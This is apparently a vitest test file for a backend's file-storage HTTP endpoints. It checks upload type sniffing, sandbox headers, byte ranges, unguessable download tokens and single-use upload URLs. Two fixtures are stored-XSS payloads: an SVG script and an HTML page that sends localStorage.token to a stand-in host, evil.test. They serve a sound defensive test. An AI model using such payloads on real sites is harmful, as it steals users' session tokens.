// Storage over HTTP: uploads typed by their bytes and usable once, downloads only of attached files by unguessable URL, sandboxed, with ranges.
import { readFileSync } from "node:fs";
import { anyApi } from "convex/server";
import { afterAll, beforeAll, expect, test } from "vitest";
import type { StoredDoc } from "./engine/internals";
import { PLACEHOLDER_STORAGE } from "./engine/urls";
import { httpClient, startTestBackend, tempDataDir, type TestBackend } from "./testing/harness";

const api = anyApi;
let backend: TestBackend;

beforeAll(async () => {
  backend = await startTestBackend();
});
afterAll(async () => {
  await backend?.cleanup();
});

/** A real WebM voice clip (Chromium's MediaRecorder, about 2 s): registering reads its length from the file. */
const clip = new Uint8Array(readFileSync(new URL("../convex/tests/testdata/mediarecorder-opus.webm", import.meta.url)));
const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 56 }, (_, i) => i)]);
const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>');
const html = new TextEncoder().encode("<!doctype html><script>fetch('//evil.test/?'+localStorage.token)</script>");

const SANDBOX = {
  "x-content-type-options": "nosniff",
  "content-security-policy": "default-src 'none'; sandbox",
  "cross-origin-resource-policy": "same-origin",
};

function expectSandboxed(response: Response): void {
  for (const [name, value] of Object.entries(SANDBOX)) expect(response.headers.get(name), name).toBe(value);
  expect(response.headers.get("access-control-allow-origin")).toBeNull();
}

async function upload(url: string, type: string, bytes: Uint8Array): Promise<string> {
  const response = await fetch(url, { method: "POST", headers: { "Content-Type": type }, body: bytes as BodyInit });
  expect(response.status).toBe(200);
  return ((await response.json()) as { storageId: string }).storageId;
}

type Client = Awaited<ReturnType<typeof httpClient>>;

async function signedIn(on: TestBackend, name: string): Promise<{ client: Client; id: string }> {
  const client = await httpClient(on, name);
  const profile = (await client.mutation(api.users.ensureViewer, {})) as { _id: string };
  await client.mutation(api.users.completeOnboarding, { username: name, displayName: name }); // whispering needs it
  return { client, id: profile._id };
}

/** The URL `ctx.storage.getUrl` gives functions for this file, as clients receive it. */
async function urlOf(on: TestBackend, storageId: string): Promise<string> {
  const url = await on.engine.transact(async (_db, ctx) => await ctx.storage.getUrl(storageId as never));
  expect(url?.startsWith(PLACEHOLDER_STORAGE)).toBe(true);
  return `${on.origin}/api/storage/${url!.slice(PLACEHOLDER_STORAGE.length)}`;
}

/** A voice whisper from alice to bob with `bytes` attached; the audioUrl its sender pulls (the clientId is the sender's). */
async function sendVoice(on: TestBackend, clientId: string, bytes = clip): Promise<{ storageId: string; audioUrl: string }> {
  const alice = await signedIn(on, "alice");
  const bob = await signedIn(on, "bob");
  const storageId = await upload((await alice.client.mutation(api.files.generateVoiceUploadUrl, {})) as string, "audio/webm", bytes);
  await alice.client.action(api.files.registerUpload, { storageId: storageId as never, kind: "voice" });
  await alice.client.mutation(api.whispers.sendVoiceWhisper, {
    clientId,
    recipientId: bob.id,
    audioStorageId: storageId,
    audioDuration: 3,
    isVoiceModulated: true,
  });
  const page = (await alice.client.query(api.sync.pull, { cursor: "" })) as {
    changes: { table: string; doc: { clientId?: string; audioUrl?: string } | null }[];
  };
  const whisper = page.changes.find((c) => c.table === "whispers" && c.doc?.clientId === clientId);
  expect(whisper?.doc?.audioUrl).toBeTruthy();
  return { storageId, audioUrl: whisper!.doc!.audioUrl! };
}

/** Stored bytes attached as a file row of alice's (bypassing the attach checks: a file an older server let through). */
async function attachAnyway(on: TestBackend, storageId: string, extra: Record<string, unknown> = {}): Promise<string> {
  const alice = await signedIn(on, "alice");
  return await on.engine.transact(async (db, ctx) => {
    const id = await ctx.db.insert("files", { storageId: storageId as never, ownerId: alice.id as never, kind: "image", updatedAt: Date.now() });
    // A raw write: `pending` is not in every schema version yet.
    if (Object.keys(extra).length > 0) db._addWrite(id, { ...db.get("files", id)!, ...extra });
    return id;
  });
}

test("the server types an upload by its bytes: the declared Content-Type is not trusted", async () => {
  const alice = await signedIn(backend, "alice");
  const url = async () => (await alice.client.mutation(api.files.generateUploadUrl, {})) as string;
  const typed = async (declared: string, bytes: Uint8Array) => backend.engine.storageRow(await upload(await url(), declared, bytes))?.contentType;
  expect(await typed("text/html", png)).toBe("image/png");
  expect(await typed("image/svg+xml", svg)).toBe("application/octet-stream");
  expect(await typed("image/png", html)).toBe("application/octet-stream");
  expect(await typed("image/png, text/html", html)).toBe("application/octet-stream");
  expect(await typed("image/png", clip)).toBe("audio/webm");
});

test("an attached voice clip downloads inline and sandboxed, with ranges, ETag and 304", async () => {
  const { audioUrl } = await sendVoice(backend, "voice-clip-0001");
  const full = await fetch(audioUrl);
  expect(full.status).toBe(200);
  expectSandboxed(full);
  expect(full.headers.get("content-type")).toBe("audio/webm");
  expect(full.headers.get("content-disposition")).toBe("inline");
  expect(full.headers.get("accept-ranges")).toBe("bytes");
  expect(new Uint8Array(await full.arrayBuffer())).toEqual(clip);

  const part = await fetch(audioUrl, { headers: { Range: "bytes=100-199" } });
  expect(part.status).toBe(206);
  expectSandboxed(part);
  expect(part.headers.get("content-range")).toBe(`bytes 100-199/${clip.length}`);
  expect(part.headers.get("content-length")).toBe("100");
  expect(new Uint8Array(await part.arrayBuffer())).toEqual(clip.slice(100, 200));

  const tail = await fetch(audioUrl, { headers: { Range: "bytes=-10" } });
  expect(tail.status).toBe(206);
  expect(new Uint8Array(await tail.arrayBuffer())).toEqual(clip.slice(clip.length - 10));

  const beyond = await fetch(audioUrl, { headers: { Range: `bytes=${clip.length + 10}-` } });
  expect(beyond.status).toBe(416);
  expectSandboxed(beyond);
  expect(beyond.headers.get("content-range")).toBe(`bytes */${clip.length}`);

  const etag = full.headers.get("etag")!;
  const cached = await fetch(audioUrl, { headers: { "If-None-Match": etag } });
  expect(cached.status).toBe(304);
  expectSandboxed(cached);

  const head = await fetch(audioUrl, { method: "HEAD" });
  expect(head.status).toBe(200);
  expect(head.headers.get("content-length")).toBe(String(clip.length));
});

test("a stored type outside the allowlist is served as an octet-stream attachment", async () => {
  const alice = await signedIn(backend, "alice");
  const storageId = await upload((await alice.client.mutation(api.files.generateUploadUrl, {})) as string, "image/svg+xml", svg);
  await attachAnyway(backend, storageId);
  const served = await fetch(await urlOf(backend, storageId));
  expect(served.status).toBe(200);
  expectSandboxed(served);
  expect(served.headers.get("content-type")).toBe("application/octet-stream");
  expect(served.headers.get("content-disposition")).toBe("attachment");

  // A row an older server stored with the uploader's type is not trusted either.
  await backend.engine.transact(async (db) => {
    db._addWrite(storageId, { ...db.get("_storage", storageId)!, contentType: "image/svg+xml" });
  });
  const legacy = await fetch(await urlOf(backend, storageId));
  expect(legacy.headers.get("content-type")).toBe("application/octet-stream");
  expect(legacy.headers.get("content-disposition")).toBe("attachment");
});

test("storage URLs carry an unguessable token: the raw id, the sha256 and forged tokens are refused", async () => {
  const { storageId, audioUrl } = await sendVoice(backend, "voice-clip-0002");
  expect(audioUrl.startsWith(`${backend.origin}/api/storage/`)).toBe(true);
  const token = audioUrl.slice(`${backend.origin}/api/storage/`.length);
  expect(token).not.toBe(storageId);
  expect(token).toMatch(/^[0-9]+_storage\.[A-Za-z0-9_-]{22}$/);
  expect((await fetch(audioUrl)).status).toBe(200);

  const sha256 = String(backend.engine.storageRow(storageId)?.sha256);
  const mac = token.slice(token.indexOf(".") + 1);
  const counter = Number(storageId.split("_")[0]);
  // A MAC with its last character changed (16 bytes in base64url end in A, Q, g or w).
  const forged = `${storageId}.${mac.slice(0, -1)}${mac.endsWith("A") ? "Q" : "A"}`;
  for (const guess of [storageId, sha256, forged, `${counter + 1}_storage.${mac}`, `${storageId}.`, "upload2"]) {
    const refused = await fetch(`${backend.origin}/api/storage/${guess}`);
    expect(refused.status, guess).toBe(404);
    expectSandboxed(refused);
  }
});

test("a file that is not attached, or attached only as pending, is not served", async () => {
  const alice = await signedIn(backend, "alice");
  const storageId = await upload((await alice.client.mutation(api.files.generateUploadUrl, {})) as string, "image/png", png);
  const url = await urlOf(backend, storageId);
  expect((await fetch(url)).status).toBe(404);

  // Refused by the attach checks (a PNG is not a voice clip): still never served.
  const bob = await signedIn(backend, "bob");
  await expect(
    alice.client.mutation(api.whispers.sendVoiceWhisper, {
      clientId: "voice-refused-01",
      recipientId: bob.id,
      audioStorageId: storageId,
      audioDuration: 3,
      isVoiceModulated: true,
    }),
  ).rejects.toThrow();
  expect((await fetch(url)).status).toBe(404);

  const fileId = await attachAnyway(backend, storageId, { pending: true });
  expect((await fetch(url)).status).toBe(404);
  await backend.engine.transact(async (db) => {
    const { pending: _pending, ...attached } = db.get("files", fileId)!;
    db._addWrite(fileId, attached as StoredDoc);
  });
  expect((await fetch(url)).status).toBe(200);
});

test("an upload URL works once, also when two requests race for it", async () => {
  const alice = await signedIn(backend, "alice");
  const url = (await alice.client.mutation(api.files.generateUploadUrl, {})) as string;
  await upload(url, "image/png", png);
  const again = await fetch(url, { method: "POST", body: png as BodyInit });
  expect(again.status).toBe(409);
  expectSandboxed(again);
  expect(((await again.json()) as { error: string }).error).toMatch(/already used/);

  const raced = (await alice.client.mutation(api.files.generateUploadUrl, {})) as string;
  const statuses = await Promise.all([1, 2, 3].map(async () => (await fetch(raced, { method: "POST", body: png as BodyInit })).status));
  expect(statuses.sort()).toEqual([200, 409, 409]);

  expect((await fetch(`${backend.origin}/api/storage/upload?token=forged`, { method: "POST", body: png as BodyInit })).status).toBe(401);
});

test("across a restart: a used upload URL stays used, and storage URLs keep working", async () => {
  const dataDir = tempDataDir();
  const first = await startTestBackend({ dataDir });
  let second: TestBackend | null = null;
  try {
    const { audioUrl } = await sendVoice(first, "voice-restart-01");
    const alice = await signedIn(first, "alice");
    const used = (await alice.client.mutation(api.files.generateUploadUrl, {})) as string;
    await upload(used, "image/png", png);
    const unused = (await alice.client.mutation(api.files.generateUploadUrl, {})) as string;
    await first.close();

    second = await startTestBackend({ dataDir });
    const moved = (url: string) => `${second!.origin}${new URL(url).pathname}${new URL(url).search}`;
    expect((await fetch(moved(used), { method: "POST", body: png as BodyInit })).status).toBe(409);
    expect((await fetch(moved(unused), { method: "POST", body: png as BodyInit })).status).toBe(200);
    const audio = await fetch(moved(audioUrl), { headers: { Range: "bytes=0-9" } });
    expect(audio.status).toBe(206);
    expect(new Uint8Array(await audio.arrayBuffer())).toEqual(clip.slice(0, 10));
  } finally {
    await (second ?? first).cleanup();
  }
});
